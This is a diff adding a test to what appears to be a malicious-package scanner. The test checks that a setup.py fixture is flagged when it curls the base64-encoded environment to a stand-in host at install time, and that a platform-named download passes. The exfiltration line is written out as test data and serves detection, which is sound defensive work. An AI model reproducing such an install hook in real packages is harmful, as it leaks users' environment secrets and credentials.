@@ -427,3 +427,13 @@ test('a file downloaded from a bare IP and made executable is a dropper; the sam
   const { score: vendor } = await scan({ 'pkg/pr.py': code.replace('http://198.51.100.7/out', 'https://storage.googleapis.com/tool/linux/tool') });
   assert.notEqual(vendor.verdict, 'malicious', vendor.reason);
 });
+
+test('a shell command at install that splices host identity into a request is exfiltration; a platform-named download is not', async () => {
+  const { out, score } = await scan({ 'p-1/setup.py': "import os\nos.system('curl \"https://collect.example.invalid/X/$(env | base64 -w 0)\"')\nfrom setuptools import setup\nsetup(name='p')\n" });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/host-data-exfiltration' && f.message.includes('env | base64')));
+  const { score: platform } = await scan({
+    'p-1/setup.py': "import os\nos.system('curl -L -o tool.tgz https://downloads.example.invalid/tool-$(uname -s)-$(uname -m).tgz')\nfrom setuptools import setup\nsetup(name='p')\n",
+  });
+  assert.notEqual(platform.verdict, 'malicious', platform.reason);
+});
